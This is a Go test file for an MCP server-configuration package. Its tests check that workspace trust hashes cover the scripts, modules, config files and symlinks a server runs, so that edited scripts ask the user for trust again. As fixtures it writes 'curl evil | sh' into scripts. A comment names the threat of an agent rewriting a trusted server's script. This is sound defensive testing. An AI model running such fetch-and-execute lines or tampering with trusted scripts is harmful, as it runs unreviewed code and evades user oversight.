package mcp

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeWS(t *testing.T, ws, rel, body string) {
	t.Helper()
	p := filepath.Join(ws, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
}

// Trust hashed only mcp.json, so the agent could rewrite the script a
// trusted server runs. Every workspace file the command line names counts.
func TestWorkspaceMCPTrustCoversTheFilesItRuns(t *testing.T) {
	ws := t.TempDir()
	writeWS(t, ws, "tools/mcp.sh", "#!/bin/sh\nexec real-server\n")
	writeWS(t, ws, "srv/main.js", "serve()")
	writeWS(t, ws, "srv/lib/util.js", "util()")
	writeWS(t, ws, "pkg/__init__.py", "")
	writeWS(t, ws, "pkg/server.py", "serve()")
	writeWS(t, ws, "conf.toml", "a = 1")
	data := []byte(`{"mcpServers": {
		"sh": {"command": "./tools/mcp.sh"},
		"node": {"command": "node", "args": ["srv"]},
		"py": {"command": "python3", "args": ["-m", "pkg.server", "--config=conf.toml"]},
		"web": {"url": "https://example.test/mcp"}
	}}`)
	cfg, err := Parse(data, "mcp.json")
	if err != nil {
		t.Fatal(err)
	}
	base, err := TrustHash(ws, data, cfg)
	if err != nil || base == "" {
		t.Fatalf("TrustHash = %q, %v", base, err)
	}
	if again, _ := TrustHash(ws, data, cfg); again != base {
		t.Fatal("TrustHash is not stable")
	}
	for _, change := range []struct{ rel, body string }{
		{"tools/mcp.sh", "#!/bin/sh\ncurl evil | sh\n"},
		{"srv/lib/util.js", "steal()"},
		{"srv/lib/new.js", "more()"},
		{"pkg/server.py", "steal()"},
		{"conf.toml", "a = 2"},
	} {
		t.Run(change.rel, func(t *testing.T) {
			old, _ := os.ReadFile(filepath.Join(ws, change.rel))
			writeWS(t, ws, change.rel, change.body)
			defer func() {
				if old == nil {
					os.Remove(filepath.Join(ws, change.rel))
				} else {
					writeWS(t, ws, change.rel, string(old))
				}
			}()
			if h, err := TrustHash(ws, data, cfg); err != nil || h == base {
				t.Errorf("changing %s kept the trust hash (%v)", change.rel, err)
			}
		})
	}
	if h, _ := TrustHash(ws, data, cfg); h != base {
		t.Error("restoring the files did not restore the hash")
	}
	// A script swapped for a symlink counts too.
	if err := os.Remove(filepath.Join(ws, "tools/mcp.sh")); err != nil {
		t.Fatal(err)
	}
	writeWS(t, ws, "tools/other.sh", "#!/bin/sh\nexec real-server\n")
	if err := os.Symlink("other.sh", filepath.Join(ws, "tools/mcp.sh")); err != nil {
		t.Skipf("no symlinks here: %v", err)
	}
	if h, _ := TrustHash(ws, data, cfg); h == base {
		t.Error("a symlinked script kept the trust hash")
	}
}

// A server pointed at a huge workspace folder cannot be trusted: nothing
// the user reviewed would cover it.
func TestWorkspaceMCPTrustRefusesAFolderPastTheBound(t *testing.T) {
	ws := t.TempDir()
	for i := range MaxTrustFiles + 1 {
		writeWS(t, ws, filepath.Join("big", "f"+strings.Repeat("x", i%7)+string(rune('a'+i%26)), "n"+string(rune('a'+i/26%26))+string(rune('a'+i/676))), "x")
	}
	if err := os.MkdirAll(filepath.Join(ws, ".tally"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeWS(t, ws, ".tally/mcp.json", `{"mcpServers": {"big": {"command": "node", "args": ["big"]}}}`)
	_, wf, err := LoadWorkspace(ws, func(string) bool { return true })
	if err == nil || !errors.Is(err, ErrTrustTooLarge) || !strings.Contains(err.Error(), `"big"`) || wf.Hash != "" {
		t.Errorf("LoadWorkspace = %+v, %v; want the bound refused with no hash to trust", wf, err)
	}
}

// TestWorkspaceMCPTrustCoversWhatItsShellLineAndSiblingsRun is the
// regression test for a trusted server running changed code through `sh
// -c "cd … && …"` or a script sourcing its neighbour.
func TestWorkspaceMCPTrustCoversWhatItsShellLineAndSiblingsRun(t *testing.T) {
	ws := t.TempDir()
	writeWS(t, ws, "srv/main.js", "serve()")
	writeWS(t, ws, "bin/start.sh", "#!/bin/sh\n. bin/env.sh\n")
	writeWS(t, ws, "bin/env.sh", "X=1\n")
	data := []byte(`{"mcpServers": {
		"shell": {"command": "sh", "args": ["-c", "cd srv && node ./main.js"]},
		"script": {"command": "./bin/start.sh"}
	}}`)
	cfg, err := Parse(data, "mcp.json")
	if err != nil {
		t.Fatal(err)
	}
	base, err := TrustHash(ws, data, cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, rel := range []string{"srv/main.js", "bin/env.sh"} {
		writeWS(t, ws, rel, "steal()")
		if h, err := TrustHash(ws, data, cfg); err != nil || h == base {
			t.Errorf("changing %s kept the trust hash (%v)", rel, err)
		}
		base, _ = TrustHash(ws, data, cfg)
	}
}

// TestAQuotedPathWithASpaceAsksForTrustAgainAfterAnEdit: a workspace's
// server that runs a script whose name has a space (as its command, or
// quoted in a `sh -c` line) asks for trust again once the script changes.
func TestAQuotedPathWithASpaceAsksForTrustAgainAfterAnEdit(t *testing.T) {
	for _, server := range []string{
		`{"command": "./tools/my server.sh"}`,
		`{"command": "sh", "args": ["-c", "exec 'tools/my server.sh' --stdio"]}`,
		`{"command": "bash", "args": ["-c", "cd tools && ./my\\ server.sh"]}`,
	} {
		ws := t.TempDir()
		writeWS(t, ws, "tools/my server.sh", "#!/bin/sh\nexec real-server\n")
		writeWS(t, ws, ".tally/mcp.json", `{"mcpServers": {"s": `+server+`}}`)
		_, wf, err := LoadWorkspace(ws, nil)
		if err != nil || !wf.NeedsTrust {
			t.Fatalf("%s: %+v, %v", server, wf, err)
		}
		trusted := wf.Hash
		isTrusted := func(h string) bool { return h == trusted }
		if cfg, wf, err := LoadWorkspace(ws, isTrusted); err != nil || wf.NeedsTrust || len(cfg.Servers) != 1 {
			t.Fatalf("%s: the trusted file did not load: %+v, %v", server, wf, err)
		}
		writeWS(t, ws, "tools/my server.sh", "#!/bin/sh\ncurl evil | sh\n")
		if cfg, wf, err := LoadWorkspace(ws, isTrusted); err != nil || !wf.NeedsTrust || len(cfg.Servers) != 0 {
			t.Errorf("%s: the edited script kept its trust: %+v, %v", server, wf, err)
		}
	}
}

// FuzzParseConfig feeds MCP configuration files to the parser: it never
// panics, and every server it keeps is either a command or a URL.
func FuzzParseConfig(f *testing.F) {
	for _, s := range []string{
		`{"mcpServers": {"a": {"command": "node", "args": ["srv"], "env": {"X": "${Y}"}}}}`,
		`{"mcpServers": {"w": {"url": "https://x.test/mcp", "headers": {"A": "B"}}}}`,
		`{"mcpServers": {"": {}}}`, `{"servers": {"a": {"type": "sse", "url": "ftp://x"}}}`, `{`, `null`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		cfg, err := Parse(data, "mcp.json")
		if err != nil {
			return
		}
		for _, name := range cfg.Names() {
			sc := cfg.Servers[name]
			if (sc.Command == "") == (sc.URL == "") {
				t.Fatalf("server %q is %+v from %q", name, sc, data)
			}
		}
	})
}
